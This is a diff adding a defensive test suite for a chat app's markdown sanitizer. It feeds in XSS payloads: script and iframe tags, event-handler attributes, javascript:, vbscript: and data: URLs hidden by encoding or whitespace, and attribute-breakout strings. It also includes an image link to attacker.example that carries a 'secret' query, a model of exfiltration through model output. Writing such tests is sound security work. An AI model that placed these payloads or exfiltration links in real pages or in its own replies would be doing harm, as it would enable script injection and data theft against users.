@@ -0,0 +1,112 @@
+// XSS payloads through the renderer used by the chat page and the HTML export:
+// whatever the model writes, the output must not run script or load unsafe URLs.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { Marked } from "marked";
+import { isSafeUrl, safeMarkdown } from "../public/safe-markdown.js";
+
+const markdown = new Marked(safeMarkdown);
+const render = (text) => markdown.parse(text);
+
+const UNSAFE_TAGS = ["script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form"];
+
+// No tag the payload could have smuggled in survives as markup: only harmless elements,
+// no event handler attributes and no unsafe URLs (text inside quoted values is inert)
+function assertInert(html) {
+  for (const [, tag, attributes] of html.matchAll(/<([a-z][a-z0-9]*)\b([^>]*)>/gi)) {
+    assert.ok(!UNSAFE_TAGS.includes(tag.toLowerCase()), `unexpected <${tag}> in ${html}`);
+    const names = attributes.replace(/"[^"]*"/g, '""');
+    assert.doesNotMatch(names, /\bon\w+\s*=/i, html);
+    for (const [, url] of attributes.matchAll(/\b(?:href|src)="([^"]*)"/gi)) {
+      assert.ok(isSafeUrl(url), `unsafe URL ${url} in ${html}`);
+      assert.doesNotMatch(url, /^\s*data:/i, html);
+    }
+  }
+}
+
+test("script tags are shown as text", () => {
+  const html = render("Hello <script>alert(1)</script>");
+  assert.match(html, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
+  assertInert(html);
+});
+
+test("inline HTML with event handlers is escaped", () => {
+  const html = render('Look: <img src=x onerror="alert(1)"> and <svg onload=alert(1)>');
+  assert.match(html, /&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt;/);
+  assert.match(html, /&lt;svg onload=alert\(1\)&gt;/);
+  assertInert(html);
+});
+
+test("raw HTML blocks are escaped", () => {
+  const html = render('<div onclick="alert(1)">\n<iframe src="javascript:alert(1)"></iframe>\n</div>\n\ntext');
+  assert.match(html, /&lt;div onclick=&quot;alert\(1\)&quot;&gt;/);
+  assert.match(html, /&lt;iframe/);
+  assertInert(html);
+});
+
+test("javascript: and data: links render as plain text", () => {
+  for (const href of [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java&#115;cript:alert(1)",
+    "java&#x73;cript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+  ]) {
+    const html = render(`[click me](${href})`);
+    assert.doesNotMatch(html, /<a\b/, href);
+    assert.match(html, /click me/, href);
+    assertInert(html);
+  }
+});
+
+test("links hidden behind whitespace or control characters are caught", () => {
+  assert.equal(isSafeUrl("java\tscript:alert(1)"), false);
+  assert.equal(isSafeUrl(" javascript:alert(1)"), false);
+  assert.equal(isSafeUrl("java\u0000script:alert(1)"), false);
+  assert.equal(isSafeUrl("javascript&colon;alert(1)"), false);
+});
+
+test("reference-style and autolinks with unsafe schemes are not linked", () => {
+  const html = render("[x][ref]\n\n[ref]: javascript:alert(1)\n\n<javascript:alert(1)>");
+  assert.doesNotMatch(html, /href="javascript/i);
+  assertInert(html);
+});
+
+test("javascript: and data: images are dropped, keeping the alt text", () => {
+  for (const src of ["javascript:alert(1)", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:image/png;base64,AAAA"]) {
+    const html = render(`![alt text](${src})`);
+    assert.doesNotMatch(html, /<img\b/, src);
+    assert.match(html, /alt text/, src);
+    assertInert(html);
+  }
+});
+
+test("image alt text and titles can't break out of the attribute", () => {
+  const html = render('![x" onerror="alert(1)](https://example.com/a.png "t\\" onload=\\"alert(1)")');
+  assert.match(html, /<a\b/);
+  assertInert(html);
+});
+
+test("remote images are links, so nothing loads without a click", () => {
+  const html = render("![chart](https://attacker.example/?q=secret) ![](https://example.com/b.png)");
+  assert.doesNotMatch(html, /<img\b/);
+  assert.match(html, /<a href="https:\/\/attacker\.example\/\?q=secret">chart<\/a>/);
+  assert.match(html, /<a href="https:\/\/example\.com\/b\.png">https:\/\/example\.com\/b\.png<\/a>/);
+  assertInert(html);
+});
+
+test("safe links, image links and formatting still render", () => {
+  const html = render("**bold** [site](https://example.com) [mail](mailto:a@example.com) [rel](/share/abc) ![pic](https://example.com/a.png)");
+  assert.match(html, /<strong>bold<\/strong>/);
+  assert.match(html, /<a href="https:\/\/example\.com">site<\/a>/);
+  assert.match(html, /<a href="mailto:a@example\.com">mail<\/a>/);
+  assert.match(html, /<a href="\/share\/abc">rel<\/a>/);
+  assert.match(html, /<a href="https:\/\/example\.com\/a\.png">pic<\/a>/);
+});
+
+test("code keeps HTML as text", () => {
+  const html = render("```html\n<script>alert(1)</script>\n```\n\nand `<img onerror=alert(1)>`");
+  assertInert(html);
+  assert.match(html, /&lt;script&gt;/);
+});